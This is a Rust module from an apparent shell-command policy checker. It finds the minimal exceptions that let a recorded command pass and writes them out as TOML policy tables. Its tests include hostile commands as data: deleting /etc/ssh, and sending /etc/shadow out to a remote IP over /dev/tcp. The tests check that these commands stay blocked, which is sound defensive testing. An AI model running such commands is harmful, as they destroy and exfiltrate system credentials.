//! The narrowest exceptions for a command of the record, as tables for root to put into a file.
//!
//! In: a command, a policy. Out: exceptions, their text. Never: names a place that is not certain, nor a final
//! rule.

use std::fmt::Write as _;

use crate::act::tag;
use crate::cli::policy::past::{Past, verify};
use crate::decision::Decision;
use crate::effects::model::Effect;
use crate::evidence::matching::matches;
use crate::policy::Policy;
use crate::policy::exception::{CLASS, Exception, Standing};
use crate::policy::keep;
use crate::policy::sought::Marks;
use crate::policy::tables::Lifted;
use crate::text::escape;
use crate::verdict::Verdict;
use crate::verify::Judge;

/// Exceptions that one command may take.
const MOST: usize = 16;

/// The policy's exceptions and more.
pub fn together(policy: Policy, more: &[Exception]) -> &'static [Exception] {
    keep::list([policy.exceptions(), more].concat())
}

/// Exceptions one after the other, each for what weighs most of what is left, until it would be allowed or
/// nothing more can be lifted; then without those that it would be allowed without.
pub fn narrowest(policy: Policy, past: &Past) -> Vec<Exception> {
    let mut found = enough(policy, past);
    for at in (0..found.len()).rev() {
        let mut fewer = found.clone();
        fewer.remove(at);
        let judge = Judge::new(Policy { exceptions: together(policy, &fewer), ..policy });
        if found.len() > 1 && verify(&judge, past).verdict == Verdict::Allow {
            found = fewer;
        }
    }
    found
}

fn enough(policy: Policy, past: &Past) -> Vec<Exception> {
    let mut found: Vec<Exception> = Vec::new();
    while found.len() < MOST {
        let judge = Judge::new(Policy { exceptions: together(policy, &found), ..policy });
        let decision = verify(&judge, past);
        if decision.verdict == Verdict::Allow {
            break;
        }
        let named = |rule: &str, effect: &Effect| {
            found.iter().any(|e| {
                e.rules.contains(&rule)
                    && e.kinds == effect.kind.bit()
                    && place(effect).map(|place| place.trim_end_matches('/')) == Some(where_of(e))
            })
        };
        let Some(next) = next(&decision, &policy, &named) else { break };
        found.push(next);
    }
    found
}

/// The exception for the heaviest rule, else for the class of an effect, that can still be lifted.
fn next(decision: &Decision, policy: &Policy, named: &dyn Fn(&str, &Effect) -> bool) -> Option<Exception> {
    let by_rule = decision.findings.iter().filter(|finding| finding.lifted == Lifted::ByException);
    let by_rule = by_rule.filter_map(|finding| {
        let effect = decision.effects.get(finding.effect)?;
        (!named(&finding.rule, effect)).then(|| exception(&finding.rule, effect))?
    });
    let by_class = decision.effects.iter().filter_map(|effect| {
        let heaviest = policy
            .semantics()
            .iter()
            .filter(|entry| matches(&entry.when, effect, Marks::of(&effect.target.resolved)))
            .max_by_key(|e| e.score)?;
        let rule = format!("{CLASS}{}", heaviest.class.name());
        (Some(heaviest.class) == decision.class && !named(&rule, effect)).then(|| exception(&rule, effect))?
    });
    by_rule.chain(by_class).next()
}

/// Where an effect is, if that is certain.
pub fn place(effect: &Effect) -> Option<&str> {
    let target = &*effect.target.resolved;
    let is_certain = !target.is_empty() && !target.contains('…') && !effect.tags.has(tag::UNKNOWN_TARGET);
    is_certain.then_some(target)
}

fn where_of(exception: &Exception) -> &'static str {
    exception.under.first().or(exception.targets.first()).copied().unwrap_or("")
}

fn exception(rule: &str, effect: &Effect) -> Option<Exception> {
    let place = place(effect)?;
    let is_path = place.starts_with('/') && place != "/" && !place.contains(['*', '?', '[', '{']);
    let list = keep::list(vec![keep::text(place.trim_end_matches('/'))]);
    Some(Exception {
        rules: keep::list(vec![keep::text(rule)]),
        kinds: effect.kind.bit(),
        under: if is_path { list } else { &[] },
        targets: if is_path { &[] } else { list },
        agent: "",
        reason: "",
        standing: Standing::InForce,
        origin: "",
    })
}

/// What still holds it back.
pub fn why_not(decision: &Decision) -> Vec<String> {
    let mut out = Vec::new();
    for finding in decision.findings.iter().filter(|f| f.lifted == Lifted::Never) {
        out.push(format!("{} [{}] is final", finding.reason, finding.rule));
    }
    for unknown in &decision.unknowns {
        out.push(format!("not known: {}: {}", unknown.what.name(), escape(&unknown.detail)));
    }
    if out.is_empty() {
        out.push("what holds it back is at no place that is certain".to_owned());
    }
    out
}

/// A TOML string of one line, in which nothing moves the cursor.
fn quoted(text: &str) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        match c {
            '"' | '\\' => out.extend(['\\', c]),
            c if escape(c.encode_utf8(&mut [0; 4])).len() == c.len_utf8() => out.push(c),
            c => drop(write!(out, "\\U{:08X}", u32::from(c))),
        }
    }
    out.push('"');
    out
}

/// One string, or a list of them.
fn listed(texts: &[&str]) -> String {
    match texts {
        [text] => quoted(text),
        texts => format!("[{}]", texts.iter().map(|text| quoted(text)).collect::<Vec<_>>().join(", ")),
    }
}

/// Names of kinds of effects.
pub fn kinds(exception: &Exception) -> String {
    let named = crate::act::Kind::ALL.iter().filter(|kind| exception.kinds & kind.bit() != 0);
    named.map(|kind| kind.name()).collect::<Vec<_>>().join(" ")
}

/// An exception as a table of a policy's file, for this reason.
pub fn table(exception: &Exception, reason: &str) -> String {
    let (key, places) =
        if exception.under.is_empty() { ("target", exception.targets) } else { ("under ", exception.under) };
    format!(
        "\n[[exception]]\nrule   = {}\neffect = \"{}\"\n{key} = {}\nreason = {}\n# agent = \"/path/of/the/program\"\n# until = 2027-01-31\n",
        listed(exception.rules),
        kinds(exception),
        listed(places),
        quoted(reason),
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::digest::Digest;

    fn past(text: &str) -> Past {
        let cwd = "/home/dev/proj".to_owned();
        Past {
            sha256: Digest::of(text.as_bytes()).to_string(),
            time: "t".to_owned(),
            text: text.to_owned(),
            cwd,
            uid: 0,
        }
    }

    #[test]
    fn what_is_suggested_lets_the_command_through_and_loads() {
        use crate::policy::day::Day;
        use crate::policy::layers::Merger;
        use crate::policy::merged::LayerKind;
        let policy = Policy::embedded();
        for (text, count) in [
            ("rm -rf /opt/build/out", 1),
            ("chmod 777 /opt/share/in", 1),
            ("systemctl stop nginx", 1),
            ("rm -rf /opt/a; rm -rf /opt/b", 2),
        ] {
            let past = past(text);
            let found = narrowest(policy, &past);
            assert_eq!(found.len(), count, "{text}");
            let file: String = found.iter().map(|exception| table(exception, "say why")).collect();
            let mut merger = Merger::new(Day(2026, 6, 15));
            merger.add(LayerKind::Root, "/p", &format!("schema = 1\n{file}")).unwrap();
            assert_eq!(verify(&Judge::new(merger.finish()), &past).verdict, Verdict::Allow, "{file}");
        }
        for text in ["rm -rf /etc/ssh", "cat < <(cat /etc/shadow) > /dev/tcp/192.0.2.1/9"] {
            let past = past(text);
            let found = narrowest(policy, &past);
            let left = Judge::new(Policy { exceptions: together(policy, &found), ..policy });
            assert!(verify(&left, &past).verdict > Verdict::Allow, "{text}");
        }
    }
}
